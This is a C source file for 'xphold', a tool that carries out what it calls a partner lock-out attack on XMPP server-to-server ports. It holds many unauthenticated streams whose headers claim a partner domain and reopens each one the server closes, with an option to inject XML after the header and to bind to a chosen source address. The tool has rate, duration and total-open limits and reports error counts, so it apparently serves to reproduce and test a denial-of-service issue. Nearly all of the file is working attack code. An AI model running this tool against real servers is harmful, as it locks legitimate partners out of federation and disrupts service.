/*
 * xphold: the partner lock-out attack of issue 19.  It holds N TCP streams
 * to an s2s port whose headers claim to come from a partner, never
 * authenticates, and reopens every stream the server closes.
 *
 *   xphold --connect ADDR [--port N] --from DOMAIN --to DOMAIN
 *          --streams N --duration SECS [--max-opens N] [--rate N]
 *          [--source ADDR] [--then XML]
 *
 * It runs for --duration seconds (at most 600) or until SIGTERM/SIGINT,
 * opens at most --max-opens connections in all (default 1,000,000) and at
 * most --rate per second (default 2000), and closes every socket it holds
 * before it exits.  Once a second it prints
 *   t=SECS held=H opened=O closed=C errors=E
 * (held: streams whose header the server answered and that are still open;
 * closed: connections the server ended; errors: stream errors seen), and at
 * the end "end: held=H opened=O closed=C errors=E" plus a line per stream
 * error condition seen ("condition: NAME COUNT").
 *
 * --source binds every connection to ADDR first: an attacker on an
 * address of its own, as on a real network, where a TCP handshake proves
 * the source address (the partner's server connects from another one).
 *
 * --then sends XML right after each stream header (e.g. a <db:result/>
 * the policy refuses, to see whether a refused attempt lifts the stream's
 * rank among the pending ones).
 *
 * Exit status: 0 ran to the end, 2 usage error.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

#define MAX_STREAMS 2000
#define MAX_CONDS   16

struct conn {
	int fd;         /* -1: closed, to be reopened */
	int connecting; /* non-blocking connect under way */
	int answered;   /* the server sent its stream header */
	char tail[64];  /* last bytes seen, to find conditions across reads */
};

static volatile sig_atomic_t stop;
static struct conn conns[MAX_STREAMS];
static struct {
	char name[48];
	unsigned long n;
} conds[MAX_CONDS];
static unsigned long opened, closed_by_server, errors;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void count_condition(const char *name, size_t len)
{
	int i;

	if (len >= sizeof(conds[0].name))
		len = sizeof(conds[0].name) - 1;
	for (i = 0; i < MAX_CONDS; i++) {
		if (conds[i].n == 0) {
			memcpy(conds[i].name, name, len);
			conds[i].name[len] = '\0';
		}
		if (strlen(conds[i].name) == len &&
		    memcmp(conds[i].name, name, len) == 0) {
			conds[i].n++;
			return;
		}
	}
}

/* Stream errors in data: "<stream:error><CONDITION xmlns=...". */
static void scan(struct conn *c, const char *data, size_t n)
{
	char buf[4096 + sizeof(c->tail)];
	size_t tl = strlen(c->tail), len;
	const char *p;

	if (n > 4096) {
		data += n - 4096;
		n = 4096;
	}
	memcpy(buf, c->tail, tl);
	memcpy(buf + tl, data, n);
	len = tl + n;
	buf[len] = '\0';
	if (!c->answered && strstr(buf, "<stream:stream") != NULL)
		c->answered = 1;
	for (p = buf; (p = strstr(p, "<stream:error>")) != NULL;) {
		const char *q = p + 14, *e;

		if (*q == '<') {
			q++;
			e = q + strcspn(q, " />");
			if (*e != '\0') {
				errors++;
				count_condition(q, (size_t)(e - q));
			}
		}
		p += 14;
	}
	/* Keep a tail that cannot hold a complete '<stream:error><x ' match
	 * already counted: from the last '<' on. */
	p = strrchr(buf + (len > 40 ? len - 40 : 0), '<');
	c->tail[0] = '\0';
	if (p != NULL && strlen(p) < sizeof(c->tail))
		strcpy(c->tail, p);
}

/* The --source address (sin_family 0: none). */
static struct sockaddr_in source;

static int open_one(struct conn *c, const struct sockaddr_in *sa)
{
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd < 0)
		return -1;
	if ((source.sin_family != 0 &&
	     bind(fd, (const struct sockaddr *)&source, sizeof(source)) < 0) ||
	    fcntl(fd, F_SETFL, O_NONBLOCK) < 0 ||
	    (connect(fd, (const struct sockaddr *)sa, sizeof(*sa)) < 0 &&
	     errno != EINPROGRESS)) {
		close(fd);
		return -1;
	}
	c->fd = fd;
	c->connecting = 1;
	c->answered = 0;
	c->tail[0] = '\0';
	opened++;
	return 0;
}

static void drop(struct conn *c, int by_server)
{
	if (c->fd >= 0)
		close(c->fd);
	c->fd = -1;
	c->connecting = 0;
	c->answered = 0;
	if (by_server)
		closed_by_server++;
}

static unsigned held(int n)
{
	unsigned h = 0;
	int i;

	for (i = 0; i < n; i++)
		h += conns[i].fd >= 0 && conns[i].answered;
	return h;
}

static void usage(void)
{
	fprintf(stderr, "usage: xphold --connect ADDR [--port N] --from DOMAIN "
	                "--to DOMAIN --streams N --duration SECS "
	                "[--max-opens N] [--rate N] [--source ADDR] "
	                "[--then XML]\n");
}

int main(int argc, char **argv)
{
	const char *addr = NULL, *from = NULL, *to = NULL, *src = NULL;
	const char *then = "";
	int port = 5269, n = 0, i;
	double duration = 0, t0, next_report, sec_start;
	unsigned long max_opens = 1000000, rate = 2000, this_sec = 0;
	struct sockaddr_in sa;
	static struct pollfd pfd[MAX_STREAMS];
	char header[1024];

	for (i = 1; i + 1 < argc; i += 2) {
		if (strcmp(argv[i], "--connect") == 0)
			addr = argv[i + 1];
		else if (strcmp(argv[i], "--port") == 0)
			port = atoi(argv[i + 1]);
		else if (strcmp(argv[i], "--from") == 0)
			from = argv[i + 1];
		else if (strcmp(argv[i], "--to") == 0)
			to = argv[i + 1];
		else if (strcmp(argv[i], "--streams") == 0)
			n = atoi(argv[i + 1]);
		else if (strcmp(argv[i], "--duration") == 0)
			duration = atof(argv[i + 1]);
		else if (strcmp(argv[i], "--max-opens") == 0)
			max_opens = strtoul(argv[i + 1], NULL, 10);
		else if (strcmp(argv[i], "--rate") == 0)
			rate = strtoul(argv[i + 1], NULL, 10);
		else if (strcmp(argv[i], "--source") == 0)
			src = argv[i + 1];
		else if (strcmp(argv[i], "--then") == 0)
			then = argv[i + 1];
		else
			break;
	}
	memset(&sa, 0, sizeof sa);
	sa.sin_family = AF_INET;
	sa.sin_port = htons((unsigned short)port);
	if (src != NULL)
		source.sin_family = AF_INET;
	if (i != argc || addr == NULL || from == NULL || to == NULL || n < 1 ||
	    n > MAX_STREAMS || duration <= 0 || duration > 600 || port <= 0 ||
	    port > 65535 || rate < 1 ||
	    inet_pton(AF_INET, addr, &sa.sin_addr) != 1 ||
	    strlen(from) + strlen(to) > 400 || strlen(then) > 400 ||
	    (src != NULL && inet_pton(AF_INET, src, &source.sin_addr) != 1)) {
		usage();
		return 2;
	}
	snprintf(header, sizeof header,
	         "<?xml version='1.0'?><stream:stream xmlns='jabber:server' "
	         "xmlns:stream='http://etherx.jabber.org/streams' "
	         "xmlns:db='jabber:server:dialback' from='%s' to='%s' "
	         "version='1.0'>%s",
	         from, to, then);
	signal(SIGPIPE, SIG_IGN);
	signal(SIGTERM, on_signal);
	signal(SIGINT, on_signal);
	for (i = 0; i < n; i++)
		conns[i].fd = -1;
	t0 = now();
	next_report = t0 + 1;
	sec_start = t0;
	while (!stop && now() - t0 < duration) {
		double t = now();

		if (t - sec_start >= 1) {
			sec_start = t;
			this_sec = 0;
		}
		/* Reopen what was closed, within the rate and the total. */
		for (i = 0; i < n && this_sec < rate && opened < max_opens; i++)
			if (conns[i].fd < 0 && open_one(&conns[i], &sa) == 0)
				this_sec++;
		for (i = 0; i < n; i++) {
			pfd[i].fd = conns[i].fd;
			pfd[i].events = conns[i].connecting ? POLLOUT : POLLIN;
			pfd[i].revents = 0;
		}
		if (poll(pfd, (nfds_t)n, 50) < 0 && errno != EINTR)
			break;
		for (i = 0; i < n; i++) {
			struct conn *c = &conns[i];
			char buf[4096];
			ssize_t r;

			if (c->fd < 0 || pfd[i].revents == 0)
				continue;
			if (c->connecting) {
				int err = 0;
				socklen_t el = sizeof err;

				getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err,
				           &el);
				if (err != 0) {
					drop(c, 0);
					continue;
				}
				c->connecting = 0;
				if (write(c->fd, header, strlen(header)) < 0) {
					drop(c, 1);
					continue;
				}
				continue;
			}
			r = read(c->fd, buf, sizeof buf);
			if (r > 0)
				scan(c, buf, (size_t)r);
			else if (r == 0 || (errno != EAGAIN && errno != EINTR))
				drop(c, 1);
		}
		if (now() >= next_report) {
			next_report += 1;
			printf("t=%.0f held=%u opened=%lu closed=%lu "
			       "errors=%lu\n",
			       now() - t0, held(n), opened, closed_by_server,
			       errors);
			fflush(stdout);
		}
	}
	printf("end: held=%u opened=%lu closed=%lu errors=%lu\n", held(n),
	       opened, closed_by_server, errors);
	for (i = 0; i < MAX_CONDS && conds[i].n > 0; i++)
		printf("condition: %s %lu\n", conds[i].name, conds[i].n);
	for (i = 0; i < n; i++)
		drop(&conns[i], 0);
	return 0;
}
